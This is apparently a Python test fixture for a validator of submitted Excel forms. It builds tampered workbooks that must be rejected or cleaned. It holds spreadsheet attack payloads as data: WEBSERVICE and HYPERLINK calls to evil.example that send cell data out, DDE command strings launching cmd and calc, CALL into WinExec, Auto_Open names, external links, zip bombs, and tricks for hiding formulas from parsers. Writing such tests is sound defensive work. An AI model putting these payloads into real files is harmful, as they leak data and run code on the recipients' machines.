"""What somebody may have put into a workbook that is sent in: parts, formulas, names as changes of a form."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOOK, BOOK_RELS, TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
Parts = dict[str, bytes]
Change = Callable[[Parts], None]


def changed(workbook: bytes, change: Change) -> bytes:
    """The workbook after the change of its parts."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def part_of(workbook: bytes) -> Parts:
    """All parts by name."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def form_part(parts: Mapping[str, bytes]) -> str:
    """The part of the form's sheet: the one with a line to sign on."""
    return next(n for n, c in parts.items() if "worksheets/sheet" in n and "填报人:".encode() in c)


def related(kind: str, target: str, content: bytes, *, mode: str = "", of: str = BOOK) -> Change:
    """A part that another one is related to."""

    def change(parts: Parts) -> None:
        owner = form_part(parts) if of == "sheet" else of
        folder, _, name = owner.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels"
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        outside = f' TargetMode="{mode}"' if mode else ""
        node = f'<Relationship Id="rIdEvil" Type="{REL}/{kind}" Target="{target}"{outside}/>'
        old = (
            parts.get(rels, empty).replace(b"/>", b"></Relationships>") if rels not in parts else parts[rels]
        )
        parts[rels] = (empty if rels not in parts else old).replace(
            b"</Relationships>", node.encode() + b"</Relationships>"
        )
        if not mode:
            parts[f"{folder}/{target}"] = content

    return change


def formula(text: str, cell: str = "K8") -> Change:
    """A formula (as XML) with a result in a cell the clerk may type into."""

    def change(parts: Parts) -> None:
        name = form_part(parts)
        start = parts[name].index(f'<c r="{cell}"'.encode())
        closed = parts[name].index(b"/>", start)
        inner = parts[name].find(b"</c>", start)
        following = parts[name].find(b"<c ", start + 3)
        end = closed + 2 if inner < 0 or (0 < following < inner) else inner + 4
        made = f'<c r="{cell}"><f>{text}</f><v>80</v></c>'.encode()
        parts[name] = parts[name][:start] + made + parts[name][end:]

    return change


def in_book(before: str, xml: str) -> Change:
    """XML put in front of a tag of the workbook part."""

    def change(parts: Parts) -> None:
        assert before.encode() in parts[BOOK]
        parts[BOOK] = parts[BOOK].replace(before.encode(), (xml + before).encode(), 1)

    return change


def in_sheet(before: str, xml: str) -> Change:
    """XML put in front of a tag of the form's sheet."""

    def change(parts: Parts) -> None:
        name = form_part(parts)
        assert before.encode() in parts[name]
        parts[name] = parts[name].replace(before.encode(), (xml + before).encode(), 1)

    return change


def defined(name: str, text: str, more: str = "") -> Change:
    """A defined name."""
    return in_book("</definedNames>", f'<definedName name="{name}"{more}>{text}</definedName>')


def in_part(name: str, old: bytes, new: bytes) -> Change:
    """Bytes of a part exchanged."""

    def change(parts: Parts) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


def both(*changes: Change) -> Change:
    """Several changes at once."""

    def change(parts: Parts) -> None:
        for each in changes:
            each(parts)

    return change


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_ASKS = 'WEBSERVICE("http://evil.example/"&amp;A2)'


def help_sheet(xml: str) -> Change:
    """Another sheet than the form's, of which nothing is marked, replaced by this one."""

    def change(parts: Parts) -> None:
        form = form_part(parts)
        name = next(n for n in sorted(parts) if "worksheets/sheet" in n and n != form and "_rels" not in n)
        parts[name] = f'<?xml version="1.0" encoding="UTF-8"?>\n{xml}'.encode()

    return change


def prefixed(prefix: str, space: str = MAIN) -> Change:
    """A sheet with a live formula whose elements all have this prefix."""
    p = f"{prefix}:"
    return help_sheet(
        f'<{p}worksheet xmlns:{prefix}="{space}"><{p}sheetData><{p}row r="1"><{p}c r="A1" t="str">'
        f"<{p}f>{_ASKS}</{p}f><{p}v>x</{p}v></{p}c></{p}row></{p}sheetData></{p}worksheet>"
    )


def plain_sheet(cell: str, before: str = "", behind: str = "") -> Change:
    """A sheet with one cell."""
    return help_sheet(
        f'{before}<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData>'
        f"{behind}</worksheet>"
    )


def _also_a_theme(parts: Parts) -> None:
    """A sheet that is said to be the theme, too, and that first."""
    name = form_part(parts).removeprefix("xl/")
    link = f'<Relationship Id="rIdEvil" Type="{REL}/theme" Target="{name}"/></Relationships>'
    parts[BOOK_RELS] = parts[BOOK_RELS].replace(b"</Relationships>", link.encode())


REFUSED: Mapping[str, Change] = {
    "a prefix with a dash": prefixed("x-y"),
    "a prefix with a point": prefixed("a.b"),
    "a Chinese prefix": prefixed("表"),
    "a plain prefix": prefixed("x"),
    "a prefix of another namespace": prefixed("x", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
    "an instruction within a formula": plain_sheet(
        '<f>WEB<?x y?>SERVICE("http://evil.example/")</f><v>1</v>'
    ),
    "a comment within a formula": plain_sheet('<f>WEB<!-- -->SERVICE("http://evil.example/")</f><v>1</v>'),
    "CDATA within a formula": plain_sheet('<f>WEB<![CDATA[SERVICE("http://evil.example/")]]></f><v>1</v>'),
    "an element within a formula": plain_sheet('<f>WEB<v/>SERVICE("http://evil.example/")</f><v>1</v>'),
    "letters by their numbers": plain_sheet('<f>&#87;EBSERVICE("http://evil.example/")</f><v>1</v>'),
    "a style sheet for the sheet": plain_sheet("<v>1</v>", '<?xml-stylesheet href="http://evil.example/"?>'),
    "a sheet without a namespace": help_sheet("<worksheet><sheetData/></worksheet>"),
    "a sheet that is none": help_sheet(f'<chartsheet xmlns="{MAIN}"/>'),
    "a foreign element in a sheet": plain_sheet('<x xmlns="urn:x"/><v>1</v>'),
    "a comment within a name": defined("zz", '1<!-- -->+41+LEN(WEBSERVICE("http://evil.example/"))'),
    "CDATA within a name": defined("zz", '1+<![CDATA[LEN(WEBSERVICE("http://evil.example/"))]]>'),
    "a call between sheet names with quotes": formula("'a\"b'!A1+WEBSERVICE(\"http://x\")+'c\"d'!A1"),
    "a path in place of a sheet": formula("'\\\\192.0.2.1\\x\\a.xlsx'!total"),
    "an address in place of a sheet": formula("'http://192.0.2.1/a.xlsx'!total"),
    "a function as a value": formula('IF(TRUE,_xleta.WEBSERVICE)("http://evil.example/")'),
    "a call of what a call gives": formula('IF(TRUE,WEBSERVICE)("http://evil.example/")'),
    "the bound of a colour scale": plain_sheet(
        "<v>1</v>",
        behind='<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale>'
        '<cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/><cfvo type="max"/>'
        '<color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>',
    ),
    "a colour rule in an extension": plain_sheet(
        "<v>1</v>",
        behind='<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x-4:y xmlns:x-4="urn:x">'
        "<x-4:f>WEBSERVICE(A1)</x-4:f></x-4:y></ext></extLst>",
    ),
    "a sheet that is the theme, too": _also_a_theme,
    "the type of a macro sheet": in_part(TYPES, b"spreadsheetml.worksheet+xml", b"ms-excel.macrosheet+xml"),
    "macros": related("vbaProject", "vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"),
    "a macro sheet": related("xlMacrosheet", "macrosheets/sheet1.xml", b"<x/>"),
    "a link to another workbook": related(
        "externalLink", "externalLinks/externalLink1.xml", b"<externalLink/>"
    ),
    "a data connection": related("connections", "connections.xml", b"<connections/>"),
    "a picture": related("drawing", "drawing1.xml", b"<d/>", of="sheet"),
    "an embedded object": related("oleObject", "evil.bin", b"MZ", of="sheet"),
    "a control": related("control", "activeX1.xml", b"<x/>", of="sheet"),
    "an unknown part": related("somethingNew", "new.xml", b"<x/>"),
    "a sheet on another machine": related("worksheet", "file:////evil/share.xml", b"", mode="External"),
    "a formula that links": formula("[1]Sheet1!A1"),
    "a formula that links, spelled oddly": formula("&#91;1&#93;Sheet1!A1"),
    "a link behind a quote that is none": formula('"x&#34;&amp;[1]S!A1&amp;&#34;y"'),
    "DDE": formula("cmd|'/C calc'!A0"),
    "DDE in capitals": formula("MSEXCEL|'\\..\\..\\windows\\calc.exe'!''"),
    "a call into a library": formula('CALL("kernel32","WinExec","JFJ","calc",0)'),
    "a formula that opens a web page": formula('HYPERLINK("http://evil.example/?"&amp;K9,"点这里")'),
    "a formula that asks a server": formula('WEBSERVICE("http://evil.example/")'),
    "a formula that asks a server, prefixed": formula('_xlfn.WEBSERVICE("http://evil.example/")'),
    "real-time data": formula('RTD("evil.server",,"x")'),
    "a name that runs": defined("Auto_Open", "自测表!$A$1"),
    "a macro function": defined("evil", "自测表!$A$1", ' function="1" vbProcedure="1"'),
    "a name that links": defined("evil", "[1]Sheet1!$A$1"),
    "a name that calls": defined("evil", 'EXEC("calc")'),
    "a drop-down that calls": in_sheet(
        "<pageMargins",
        '<dataValidations count="1"><dataValidation type="list" sqref="K8"><formula1>CALL("x")</formula1>'
        "</dataValidation></dataValidations>",
    ),
    "a colour rule that links": in_sheet(
        "<pageMargins",
        '<conditionalFormatting sqref="K8"><cfRule type="expression" priority="9"><formula>[1]S!A1</formula>'
        "</cfRule></conditionalFormatting>",
    ),
    "embedded objects in the sheet": in_sheet(
        "</worksheet>", '<oleObjects><oleObject progId="x"/></oleObjects>'
    ),
    "controls in the sheet": in_sheet("</worksheet>", '<controls><control shapeId="1"/></controls>'),
    "a table": in_sheet("</worksheet>", '<tableParts count="0"/>'),
    "an entity": in_part("xl/styles.xml", b"<styleSheet", b'<!DOCTYPE x [<!ENTITY a "b">]><styleSheet'),
    "a bomb in a part nobody reads": lambda parts: parts.update({"xl/media/image1.png": b" " * (65 << 20)}),
    "nothing but quotes": formula("'" * 8000),
    "a formula longer than any": formula("1+" * 5000 + "1"),
    "UTF-16": lambda parts: parts.update(
        {form_part(parts): parts[form_part(parts)].decode().replace("UTF-8", "UTF-16").encode("utf-16")}
    ),
    "another encoding": in_part("xl/styles.xml", b'encoding="UTF-8"', b'encoding="UTF-7"'),
    "a thousand levels": in_part(
        "xl/styles.xml", b"</styleSheet>", b"<a>" * 3000 + b"</a>" * 3000 + b"</styleSheet>"
    ),
    "a comment that hides a formula": in_sheet("<sheetData>", "<!-- x -->"),
    "a macro workbook's type": in_part(
        TYPES, b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    ),
}
"""What may not be sent back: a form is made anew instead."""

LEFT_OUT: Mapping[str, tuple[Change, bytes]] = {
    "a link to a web page": (
        both(
            related("hyperlink", "http://evil.example/", b"", mode="External", of="sheet"),
            in_sheet("<pageMargins", '<hyperlinks><hyperlink ref="A1" r:id="rIdEvil"/></hyperlinks>'),
        ),
        b"evil.example",
    ),
    "printer settings": (
        both(
            related("printerSettings", "printerSettings1.bin", b"secret printer", of="sheet"),
            in_sheet(' orientation="', ' r:id="rIdEvil"'),
        ),
        b"secret printer",
    ),
    "custom XML": (related("customXml", "item1.xml", b"<secret/>"), b"<secret/>"),
    "a part nothing leads to": (lambda parts: parts.update({"xl/evil.bin": b"MZ evil"}), b"MZ evil"),
}
"""What is not carried over, while the rest is sent back: the change, and bytes that must not be found."""
